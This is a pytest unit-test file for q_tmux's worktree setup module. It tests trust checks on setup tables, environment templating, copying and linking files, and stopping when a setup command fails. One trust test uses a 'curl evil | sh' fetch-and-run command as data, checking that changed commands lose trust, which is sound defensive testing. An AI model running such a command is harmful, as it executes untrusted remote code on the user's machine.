"""Unit tests for sessions/setup.py: trusting a setup table, and preparing a new worktree."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from q_tmux.sessions.setup import (
    SetupFailed,
    agent_env,
    is_trusted,
    needs_trust,
    prepare,
    trust,
)
from q_tmux.store.config import SetupSettings
from tests.conftest import git, make_repo

TABLE: dict[str, Any] = {"run": ["make deps"], "env": {"A": "1"}, "copy": [".env"]}


@pytest.mark.parametrize(
    ("table", "expected"),
    [(None, False), ({}, False), ({"copy": [".env"], "link": ["data"]}, False), (TABLE, True)],
)
def test_only_tables_that_run_code_need_trust(table: dict[str, Any] | None, expected: bool) -> None:
    assert needs_trust(table) is expected


def test_trust_holds_for_that_file_until_what_runs_changes(tmp_path: Path) -> None:
    config = tmp_path / "app" / ".q-tmux.toml"
    assert not is_trusted(config, TABLE)
    trust(config, TABLE)
    assert is_trusted(config, TABLE)
    assert is_trusted(config, {**TABLE, "copy": ["other"]})  # copying runs nothing
    assert not is_trusted(config, {**TABLE, "run": ["curl evil | sh"]})
    assert not is_trusted(config, {**TABLE, "env": {"A": "2"}})
    assert not is_trusted(tmp_path / "other" / ".q-tmux.toml", TABLE)


def test_a_damaged_trust_file_trusts_nothing_and_is_rewritten(
    tmp_path: Path, isolated_env: Path
) -> None:
    config = tmp_path / ".q-tmux.toml"
    trust(config, TABLE)
    trust_file = isolated_env / ".local/state/q-tmux/trusted-setup.json"
    trust_file.write_text("[not a table")
    assert not is_trusted(config, TABLE)
    trust(config, TABLE)
    assert is_trusted(config, TABLE)


def test_agent_env_fills_in_worktree_name_and_repo(tmp_path: Path) -> None:
    setup = SetupSettings(env={"TARGET": "{worktree}/target", "TAG": "{name}@{repo}"})
    assert agent_env(setup, tmp_path / "w", "s", tmp_path / "r") == {
        "TARGET": f"{tmp_path / 'w'}/target",
        "TAG": f"s@{tmp_path / 'r'}",
    }


@pytest.fixture
def checkouts(tmp_path: Path) -> tuple[Path, Path]:
    """The main checkout, with untracked .env, config/ and data/, and a new worktree of it."""
    main = make_repo(tmp_path / "app")
    (main / ".env").write_text("SECRET=1\n")
    (main / "config").mkdir()
    (main / "config" / "local.ini").write_text("x=1\n")
    (main / "data").mkdir()
    work = tmp_path / "app.worktrees" / "s"
    git(main, "worktree", "add", "-q", "-b", "s", str(work))
    return main, work


def test_prepare_copies_links_runs_and_hides_all_it_made_from_git(
    checkouts: tuple[Path, Path],
) -> None:
    main, work = checkouts
    setup = SetupSettings.from_dict(
        {
            "copy": [".env", "config", "missing.txt"],
            "link": ["data"],
            "run": ['echo "$Q_TMUX_SETUP $TAG" > made-by-setup.txt'],
            "env": {"TAG": "{name}"},
        }
    )
    reported: list[str] = []

    notes = prepare(setup, work_dir=work, main_worktree=main, name="s", report=reported.append)

    assert (work / ".env").read_text() == "SECRET=1\n"
    assert (work / "config" / "local.ini").read_text() == "x=1\n"
    assert (work / "data").resolve() == (main / "data").resolve()
    assert (work / "made-by-setup.txt").read_text() == "1 s\n"
    assert notes == [f"setup: missing.txt is not in {main}; not copied."]
    assert reported[:2] == ["setup: copied .env", "setup: copied config"]
    assert git(work, "status", "--porcelain") == ""  # none of it is the session's work


def test_a_failing_setup_command_stops_and_names_itself(checkouts: tuple[Path, Path]) -> None:
    main, work = checkouts
    setup = SetupSettings(run=["touch before", "exit 3", "touch never"])
    with pytest.raises(SetupFailed, match=r"The setup command 'exit 3' failed \(exit status 3\)"):
        prepare(setup, work_dir=work, main_worktree=main, name="s", report=lambda _line: None)
    assert (work / "before").exists()
    assert not (work / "never").exists()
    assert git(work, "status", "--porcelain") == ""  # hidden even when setup failed


def test_an_existing_path_is_never_replaced_by_a_link(checkouts: tuple[Path, Path]) -> None:
    main, work = checkouts
    (work / "data").mkdir()
    (work / "data" / "mine").write_text("mine\n")
    setup = SetupSettings(link=["data"])
    notes = prepare(setup, work_dir=work, main_worktree=main, name="s", report=lambda _line: None)
    assert notes == ["setup: data already exists in the worktree; not linked."]
    assert (work / "data" / "mine").read_text() == "mine\n"
